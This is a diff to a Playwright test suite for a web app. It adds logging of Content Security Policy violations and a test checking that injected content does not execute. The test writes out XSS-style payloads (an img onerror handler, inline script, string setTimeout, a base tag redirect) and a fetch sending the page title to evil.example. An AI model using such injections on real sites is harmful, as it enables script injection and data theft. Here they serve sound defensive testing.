@@ -42,6 +42,7 @@ def contexts(browser: Browser, proxy: Address) -> Iterator[dict[str, BrowserCont
     for context in made.values():
         context.on("request", lambda request: outside(request.url))
         context.on("response", lambda r: amiss.append(f"{r.status} {r.url}") if r.status >= 400 else None)
+        context.on("console", lambda m: amiss.append(m.text) if "Content Security Policy" in m.text else None)
     yield made
     for context in made.values():
         context.close()
@@ -222,6 +223,26 @@ def test_a_suggestion_is_accepted_edited_and_rejected_field_by_field(contexts: d
     assert first == ({"joy"}, [7.0, 5.0, 9.0])
     assert second == ({"joy"}, [3.0, 5.0, 9.0])
     assert third == ({"grief"}, [1.0, 1.0, 1.0])
+
+
+def test_what_an_item_smuggles_into_the_page_does_not_run(browser: Browser, proxy: Address) -> None:
+    page = Hands.enter(context := browser.new_context(), "ana", make_round("text", names=("ana",))).page
+    refused: list[str] = []
+    context.on("console", lambda m: refused.append(m.text) if "Content Security Policy" in m.text else None)
+    page.evaluate("document.body.insertAdjacentHTML('beforeend', `<img src='x:' onerror='window.ran = 1'>`)")
+    page.evaluate(
+        """() => {
+          const script = document.createElement("script"), base = document.createElement("base");
+          script.textContent = "window.ran = 2";
+          base.href = "http://evil.example/";
+          document.head.append(script, base);
+          setTimeout("window.ran = 3");
+          return fetch("http://evil.example/?" + document.title).catch(() => 0);
+        }"""
+    )
+    assert eventually(lambda: len(refused) >= 5), refused
+    assert page.evaluate("[window.ran, document.baseURI.startsWith(location.origin)]") == [None, True]
+    context.close()
 
 
 def said_in(response: Response) -> tuple[set[str], list[float] | None]:
